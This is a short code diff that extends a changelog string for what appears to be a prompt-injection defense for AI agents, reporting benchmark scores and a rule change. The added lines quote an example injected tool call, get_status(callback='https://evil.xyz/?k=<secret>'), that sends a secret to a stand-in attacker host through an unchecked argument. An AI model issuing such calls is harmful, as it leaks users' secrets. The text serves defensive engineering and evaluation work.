@@ -31,6 +31,12 @@ STRICT_HISTORY = (
     "workspace finished) measured banking 0.500, slack 0.095, travel 0.900, attack success 0 on those three. "
     "Changed after run 2, because the MCP bench's benign read of '/home/user/reports/q3.md' was refused (.md is "
     "a country suffix), not because of a LOSO score: the fetch check applies only to arguments of no known role. "
+    "Run 3 measured banking 0.500, slack 0.095, travel 0.900, workspace 0.550, attack success 0 of 929. Changed "
+    "after run 3, by a security review and not because of a LOSO score (an undeclared or inferred "
+    "get_status(callback='https://evil.xyz/?k=<secret>') was a free read): one read rule for every read, declared, "
+    "inferred or undeclared: a link in any argument (file names excepted: file roles and file names a trusted "
+    "listing gave) is checked as a fetched URL, which also lets a read open a link written in a record the request "
+    "names, as any fetch may. "
     "No threshold or word was tuned on a left-out suite; all four folds had been seen before the run recorded here.")
 _SIM: list[WordSimilarity] = []
 
